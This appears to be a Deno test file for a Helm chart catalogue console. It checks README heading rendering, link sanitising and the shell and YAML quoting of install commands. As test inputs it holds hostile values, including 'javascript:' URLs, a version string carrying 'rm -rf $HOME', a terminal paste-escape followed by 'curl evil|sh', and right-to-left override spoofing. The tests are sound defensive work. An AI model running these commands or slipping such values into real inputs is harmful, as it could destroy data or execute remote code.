/** What the pages of an app make of texts of strangers: READMEs, links, and lines for a shell. */

import assert from "node:assert/strict";
import { load } from "js-yaml";
import { linksOf, maintainersOf, safeHref, signKeyOf } from "../../routes/console/app/lists.ts";
import type { Opened, Version } from "../../routes/console/app/load.ts";
import { fitIn } from "../../routes/console/app/readme.ts";
import { recipesOf, slug, yaml } from "../../routes/console/app/recipes.ts";
import { quoted } from "../../routes/console/parts/shell.ts";
import { renderMarkdown } from "../../routes/support/markdown.ts";

const LABELS = { code: "Code", table: "Table", done: "done", open: "open" };
const fit = (markdown: string) => fitIn(renderMarkdown(markdown), LABELS);

Deno.test("headings go on below that of the page, and leave no level out", () => {
  const { html, headings } = fit("### First\n# Second\n#### Third\n###### Fourth\n## Fifth\n");
  const levels = [...html.matchAll(/<h(\d)/g)].map(([, level]) => Number(level));
  assert.deepEqual(levels, [2, 2, 3, 4, 3]);
  assert.deepEqual(headings.map(({ level, text }) => [level, text]), [
    [2, "First"],
    [2, "Second"],
    [3, "Third"],
    [4, "Fourth"],
    [3, "Fifth"],
  ]);
  assert.equal(headings[0]!.id, "readme-first");
});

Deno.test("headings are told by their text, and those without one are none", () => {
  const { html, headings } = fit(
    '# `a` & **b** <i>"c"</i>\n\n## \n\n<h2 id=x></h2>\n\n<h1>raw</h1>',
  );
  assert.deepEqual(headings.map(({ text }) => text), ['a & b "c"']);
  assert.match(html, /<div id="readme-x"><\/div>/);
  assert.doesNotMatch(html, /<h1/);
  assert.doesNotMatch(fit("<h1>a<h1>b</h1></h1>").html, /<h1/);
});

Deno.test("what is made of a README can be balanced no worse than it is", () => {
  // Not even if there was a heading in a heading.
  const { html } = fitIn("<h1>x<div><h1>y</h1></div></h1>", LABELS);
  assert.equal(html, "<h1>x<div><h2>y</h2></div></h1>");
  const nested = fit("<h1>x<div><h1>y</h1></div></h1>\n\n<h1>z</h1>");
  assert.equal(nested.html.trim(), "<h2>x<div><div>y</div></div></h2>\n<h2>z</h2>");
});

Deno.test("code and tables can be scrolled with keys, and boxes have a name", () => {
  const { html } = fit(
    "```sh\nhelm\n```\n\n| a |  |\n| - | - |\n| 1 | 2 |\n\n- [x] yes\n- [ ] no\n",
  );
  assert.match(html, /<pre role="group" aria-label="Code" tabindex="0"><code/);
  assert.match(html, /<div class="wide" role="group" aria-label="Table" tabindex="0"><table>/);
  assert.match(html, /<\/table><\/div>/);
  assert.match(html, /<td><\/td>/);
  assert.match(html, /<input type="checkbox" disabled checked aria-label="done">/);
  assert.match(html, /<input type="checkbox" disabled aria-label="open">/);
});

Deno.test("links go to the web and to mail alone", () => {
  assert.equal(safeHref(" https://example.com "), "https://example.com/");
  assert.equal(safeHref("mailto:eve@example.com"), "mailto:eve@example.com");
  for (
    const text of ["javascript:alert(1)", "data:text/html,x", "/path", "//host", "", "ftp://a"]
  ) {
    assert.equal(safeHref(text), undefined, text);
  }
});

Deno.test("lists of a chart hold what they should, whatever was written", () => {
  const version = (fields: Partial<Version>) => fields as Version;
  const maintainers = JSON.stringify([
    { name: "Ann", url: "javascript:alert(1)", email: "ann@example.com?cc=all@example.com" },
    { email: "bob@example.com" },
    {},
    null,
  ]);
  assert.deepEqual(maintainersOf(version({ maintainers })), [
    { name: "Ann", mail: undefined, href: undefined },
    { name: "bob@example.com", mail: "bob@example.com", href: undefined },
  ]);
  const links = (text: string) =>
    linksOf(version({ annotations: { "artifacthub.io/links": text } }), "Home");
  assert.deepEqual(links("- {name: Docs, url: 'https://example.com'}\n- {name: No}\n- text\n"), [
    { name: "Docs", href: "https://example.com/" },
  ]);
  for (const text of ["a: [", "- ".repeat(30_000), "&a [*a, *a]", "7", ""]) {
    assert.deepEqual(links(text), []);
  }
  const key = "fingerprint: AB12\nurl: javascript:alert(1)\n";
  assert.deepEqual(signKeyOf(version({ annotations: { "artifacthub.io/signKey": key } })), {
    fingerprint: "AB12",
    href: undefined,
  });
});

Deno.test("what is no plain word is quoted, for a shell and for YAML", () => {
  assert.equal(quoted("bitnami/redis"), "bitnami/redis");
  assert.equal(quoted("1.0.0; rm -rf $HOME"), "'1.0.0; rm -rf $HOME'");
  assert.equal(quoted("it's"), "'it'\\''s'");
  assert.equal(quoted("-x"), "'-x'");
  assert.equal(yaml("redis"), "redis");
  for (const text of ["1.10", "yes", "", "a: b", "https://example.com", "- x", 'a"b\nc']) {
    assert.equal(yaml(text), JSON.stringify(text));
  }
  assert.equal(slug("My Repo (EU)", 63), "my-repo-eu");
  assert.equal(slug("仓库", 63), "chart");
});

/** Names that a terminal acts on when they are pasted, or that look like others. */
const UNSEEN = [
  "a\u001b[201~\u0003\n curl evil|sh\n",
  "it's \\ \u202egnp.exe\u202c1",
  "\u2028\u2029\u0085\u00ad7",
  "\t\u{e0041}'",
];

Deno.test("what is not seen in a text is written out in commands and manifests", async () => {
  for (const text of UNSEEN) {
    for (const written of [quoted(text), yaml(text)]) {
      assert.doesNotMatch(written, /[\p{Cc}\p{Cf}\p{Zl}\p{Zp}]/u);
    }
    const args = ["-c", `printf '%s' ${quoted(text)}`];
    const { stdout } = await new Deno.Command("bash", { args }).output();
    assert.equal(new TextDecoder().decode(stdout), text);
    assert.deepEqual(load(`name: ${yaml(text)}\n`), { name: text });
    const of = opened({ name: text, url: "https://a.b/\u202ec" }, { version: text });
    const recipes = recipesOf({ ...of, app: { ...of.app, name: text } });
    for (const recipe of Object.values(recipes)) {
      assert.doesNotMatch(recipe.replaceAll("\n", ""), /[\p{Cc}\p{Cf}\p{Zl}\p{Zp}]/u);
    }
  }
});

Deno.test("a chart's name is no option to a program, whatever it begins with", async () => {
  const name = "--insecure-skip-tls-verify", of = opened({ name: "--debug" });
  const recipes = recipesOf({ ...of, app: { ...of.app, name } });
  for (const command of [recipes.pull!, ...recipes.helm!.split("\n")]) {
    const script = `helm() { printf '%s\\0' "$@"; }\n${command}`;
    const { stdout } = await new Deno.Command("sh", { args: ["-c", script] }).output();
    const given = new TextDecoder().decode(stdout).split("\0");
    const options = given.slice(0, given.includes("--") ? given.indexOf("--") : given.length)
      .filter((argument) => argument.startsWith("-"));
    assert.ok(options.every((option) => ["--repo", "--version"].includes(option)), command);
  }
  assert.match(recipes.pull!, / -- '--insecure-skip-tls-verify'$/);
});

function opened(repo: Partial<Opened["repo"]>, version: Partial<Version> = {}): Opened {
  return {
    page: { base: "", url: new URL("https://charts.example/apps/a"), who: { kind: "token" } },
    app: { name: "redis", app_id: "app-1" },
    version: { version: "1.10.0", version_id: "appv-1", ...version },
    repo: { name: "Repo 1", url: "https://example.com/charts", ...repo },
  } as Opened;
}

Deno.test("a version is installed by its repository's address, with what that asks for", () => {
  const { helm, pull, flux, argo, curl } = recipesOf(opened({}));
  assert.equal(
    helm,
    "helm repo add repo-1 https://example.com/charts\nhelm repo update repo-1\n" +
      "helm install redis repo-1/redis --version 1.10.0",
  );
  assert.equal(
    pull,
    "helm pull \\\n  --repo https://example.com/charts --version 1.10.0 \\\n  -- redis",
  );
  assert.match(flux!, /^ {6}version: "1\.10\.0"$/m);
  assert.match(argo!, /^ {4}targetRevision: "1\.10\.0"$/m);
  assert.match(curl, /https:\/\/charts\.example\/v1\/apps\/app-1\/versions\/appv-1\/package /);
  assert.match(curl, /Bearer \$CHARTROOM_TOKEN/);
  const closed = recipesOf(opened({ credential_set: true, ca_bundle_set: true }));
  assert.match(closed.helm!, /--username "\$HELM_USERNAME" --password "\$HELM_PASSWORD"/);
  assert.match(closed.pull!, /--ca-file ca\.pem/);
  assert.match(closed.flux!, /secretRef:\n {4}name: repo-1-credentials\n {2}certSecretRef:/);
});

Deno.test("a library is depended on, and what Helm does not reach is fetched from Chartroom", () => {
  const library = recipesOf(opened({}, { type: "library" }));
  assert.equal(library.helm, undefined);
  assert.match(
    library.dependency!,
    /- name: redis\n {4}version: "1\.10\.0"\n {4}repository: "https/,
  );
  assert.deepEqual(Object.keys(recipesOf(opened({ url: "s3://bucket/charts" }))), ["curl"]);
});
